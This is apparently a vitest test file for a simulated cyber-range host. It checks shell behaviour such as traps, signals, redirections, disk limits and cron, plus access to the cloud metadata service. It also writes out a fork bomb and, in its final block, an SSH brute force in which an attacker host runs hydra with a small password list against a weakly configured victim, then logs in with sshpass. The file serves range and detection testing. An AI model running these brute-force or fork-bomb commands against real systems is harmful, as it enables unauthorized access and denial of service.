import { describe, expect, it } from 'vitest';
import { laboratory } from '../../../test/hosts/laboratory.ts';

const rows: [string, string, string][] = [
  [
    'a refused redirection leaves the rest of the script',
    'echo a > /nodir/x; echo $?',
    '0|1\n|bash: /nodir/x: No such file or directory\n',
  ],
  ['a redirection leaves the status to be printed', 'false; echo $? > /tmp/x; cat /tmp/x', '0|1\n|'],
  [
    'every redirection of a command is asked',
    'mkdir /d; echo a > /tmp/a 2> /d; echo $?; echo b > /dev/null && echo c | cat > "/tmp/a b"; cat "/tmp/a b"',
    '0|1\nc\n|bash: /d: Is a directory\n',
  ],
  ['a trap runs at the end, in the same shell', 'x=1; trap \'echo "bye $x $?"\' EXIT; x=2; false', '1|bye 2 1\n|'],
  [
    'a trap that is a function sees the status',
    'set -e; f() { rc=$?; echo "rc $rc"; }; trap f EXIT; (exit 5)',
    '5|rc 5\n|',
  ],
  [
    'a trap runs at exit',
    "f() { t=/tmp/t; echo > $t; trap 'rm $t; echo gone' EXIT; exit 4; }; f; echo no",
    '4|gone\n|',
  ],
  ['a trap runs when set -e ends a script', "set -e; trap 'echo bye $?' EXIT; false; echo no", '1|bye 1\n|'],
  ['a trap takes a signal after the command at hand', "trap 'echo got' USR1; kill -USR1 $$; echo $?", '0|got\n0\n|'],
  [
    'a daemon ends by its trap',
    `bash -c "trap 'echo stopped >> /tmp/d; exit 3' TERM; while :; do sleep 10; done" & p=$!
sleep 25; kill $p; wait $p; echo $?; cat /tmp/d`,
    '0|3\nstopped\n|',
  ],
  [
    'a signal without a trap ends a shell at once, after its EXIT trap',
    `(trap 'echo "$v" > /tmp/e' EXIT; v=kept; sleep 600) & p=$!
sleep 5; kill $p; wait $p; echo $? $SECONDS; cat /tmp/e`,
    '0|143 5\nkept\n|',
  ],
  [
    'a trap is listed, taken back, and set to nothing',
    "trap 'a b' INT; trap; trap - INT; trap; trap '' TERM; kill $$; echo on",
    "0|trap -- 'a b' SIGINT\non\n|",
  ],
  ['a kill no trap takes', "trap 'echo no' EXIT TERM; kill -9 $$; echo no", '137||'],
  ['a trap that is not modelled says so', 'trap x ERR', '1||bash: trap: ERR: not modelled on a host of the range\n'],
  ['an assignment resets the status', 'set -e; [ -f q ] || x=1; false || rc=$?; echo $rc', '0|1\n|'],
  ['background jobs are waited for', 'sleep 5 & wait $!; echo $?', '0|0\n|'],
  ['a killed job has its signal as status', 'sleep 500 & kill -9 $!; wait $!; echo $?', '0|137\n|'],
  ['timeout runs on the virtual clock', 'timeout 5 sleep 60; echo $?', '0|124\n|'],
  ['eval and source go the same way', 'x="false; y=1"; eval "$x"; echo $?', '0|0\n|'],
  ['programs are found under sbin too', '/usr/sbin/useradd bob && id -un bob', '0|bob\n|'],
  ['a loop for ever is killed', 'while :; do :; done; echo no', '137||'],
  ['a fork bomb ends', ':(){ :|:& };:; echo over', '0|over\n|'],
  [
    'a file beyond the limit is refused',
    'dd if=/dev/zero of=/f bs=1M count=100; echo $?',
    "0|1\n|dd: error writing '/f': File too large\n",
  ],
  [
    'a full disk',
    'for size in 1M 64K 1K; do n=0; while dd if=/dev/zero of=/$size$n bs=$size count=1 2>/dev/null; do n=$((n+1)); done; done; dd if=/dev/zero of=/more bs=1M count=1; cat /1K0 > /g; echo $?; rm /1M0; echo more > /g && cat /g',
    "0|1\nmore\n|dd: error writing '/more': No space left on device\nbash: /g: No space left on device\n",
  ],
  [
    'a redirect into a folder that is not there',
    'echo x > /no/such/file; echo $?; cat < /no/such/file; echo $?',
    '0|1\n1\n|bash: /no/such/file: No such file or directory\nbash: /no/such/file: No such file or directory\n',
  ],
  [
    'bytes that are no text',
    'echo //4A/w== | base64 -d | cat | base64; echo //4A/w== | base64 -d | wc -c',
    '0|//4A/w==\n4\n|',
  ],
  ['bytes that are no text, as a script', 'echo f0VMRgEC/w== | base64 -d | bash 2>/dev/null; echo $?', '0|127\n|'],
  [
    'nonsense keeps sshd from starting',
    'echo "Nonsense yes" >> /etc/ssh/sshd_config; systemctl restart sshd 2>/dev/null; echo $?',
    '0|1\n|',
  ],
  [
    'cron is not there until it is installed',
    'crontab -l; dnf install -y cronie >/dev/null; systemctl is-active crond',
    '0|active\n|bash: crontab: command not found\n',
  ],
  [
    'the metadata service wants a token',
    'curl -s -o /dev/null -w %{http_code} http://169.254.169.254/latest/meta-data/',
    '0|401|',
  ],
  [
    'a token opens the metadata service',
    'T=$(curl -s -X PUT -H "X-aws-ec2-metadata-token-ttl-seconds: 60" http://169.254.169.254/latest/api/token); curl -s -H "X-aws-ec2-metadata-token: $T" http://169.254.169.254/latest/meta-data/instance-id',
    '0|i-server|',
  ],
];

describe('a host', () => {
  it.each(rows)(
    '%s',
    async (_name, script, expected) => {
      const lab = laboratory();
      const host = lab.host('server');
      host.boot();
      await lab.pass(30_000);
      expect(await lab.run(host, script)).toBe(expected);
      // What runs until its limit takes long on a busy machine.
    },
    30_000,
  );
});

describe('a disk', () => {
  const userData = `#!/bin/bash
dnf install -y cronie
echo '* * * * * root echo beat >> /var/log/beat' > /etc/cron.d/beat
echo Yf8= | base64 -d > /binary; mkdir -p -m 700 /private; ln -s /binary /link; useradd bob
mv /etc/ssh /etc/ssh.old; mkdir /etc/ssh; rm /etc/os-release; chmod 711 /var/www
echo first >> /first
`;
  it('is stored when a job ends, and a power loss brings cron back but no user data', async () => {
    const lab = laboratory();
    let stored: string | undefined;
    const disk = {
      load: () => (stored === undefined ? undefined : JSON.parse(stored)),
      save: (json: unknown) => {
        stored = JSON.stringify(json);
      },
    };
    const before = lab.host('server', { userData, disk });
    before.boot();
    await lab.pass(90_000);
    await lab.run(before, 'echo last > /last', { forMs: 0 });
    const killed = stored;
    await lab.pass(3_600_000);
    before.stop();
    stored = killed;
    const after = lab.host('server', { userData, disk });
    expect(after.disk.text('/last')).toBe('last\n');
    expect(JSON.parse(JSON.stringify(after.toJSON()))).toEqual(JSON.parse(killed ?? ''));
    after.boot();
    await lab.pass(150_000);
    expect(after.disk.text('/first')).toBe('first\n');
    expect(after.disk.text('/var/log/beat').split('\n').length).toBeGreaterThan(3);
    const look = 'stat -c %a /private /var/www; readlink /link; base64 /binary; id -un bob; ls /etc/ssh /etc/ssh.old';
    const there = '/etc/ssh:\n\n/etc/ssh.old:\nsshd_config\nsshd_config.d\n';
    expect(await lab.run(after, look)).toBe(`0|700\n711\n/binary\nYf8=\nbob\n${there}|`);
    expect(after.disk.find('/etc/os-release')).toBeUndefined();
  });

  it('keeps a file that may not be moved where it should go', async () => {
    const lab = laboratory();
    const host = lab.host('server', {
      userData: '#!/bin/bash\nuseradd bob; echo mine > /home/bob/file; chown bob /home/bob/file',
    });
    host.boot();
    await lab.pass(60_000);
    await lab.run(host, 'mv /home/bob/file /etc/file', { uid: 1001 });
    expect(host.disk.text('/home/bob/file')).toBe('mine\n');
  });
});

describe('a brute force over ssh', () => {
  const open = `#!/bin/bash
dnf install -y rsyslog
sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config
systemctl restart sshd
useradd alice && echo 'alice:summer' | chpasswd
`;
  const guess = `#!/bin/bash
dnf install -y hydra sshpass
printf 'admin\\nalice\\n' > /tmp/users; printf 'winter\\nsummer\\n' > /tmp/words
hydra -L /tmp/users -P /tmp/words ssh://10.0.0.15 > /tmp/out 2>&1
sshpass -p summer ssh -o StrictHostKeyChecking=no alice@10.0.0.15 'whoami; hostname -s' > /tmp/inside 2>&1
`;
  const story = async (server: string) => {
    const lab = laboratory();
    const [victim, attacker] = [lab.host('server', { userData: server }), lab.host('stranger', { userData: guess })];
    victim.boot();
    await lab.pass(60_000);
    attacker.boot();
    await lab.pass(600_000);
    return { lab, victim, attacker };
  };

  it('succeeds by the right password, in log lines and flows', async () => {
    const { lab, victim, attacker } = await story(open);
    expect(attacker.disk.text('/tmp/inside')).toBe('alice\nip-10-0-0-15\n');
    const log = victim.disk.text('/var/log/secure');
    expect(log).toMatch(/sshd\[\d+\]: Invalid user admin from 10\.0\.1\.20 port \d+\n/);
    expect(log).toMatch(/sshd\[\d+\]: Accepted password for alice from 10\.0\.1\.20 port \d+ ssh2\n/);
    const knocks = lab.flows.filter((flow) => flow['dstport'] === 22 && flow['interface-id'] === 'eni-server');
    expect(knocks).toHaveLength(5);
  });

  it('fails where another password is set, and where sshd takes none', async () => {
    const other = await story(open.replace('summer', 'autumn'));
    expect(other.attacker.disk.text('/tmp/inside')).toContain('Permission denied (publickey,password)');
    const closed = await story(open.replace('systemctl restart sshd\n', ''));
    expect(closed.attacker.disk.text('/tmp/out')).toContain('does not support password authentication');
  });
});
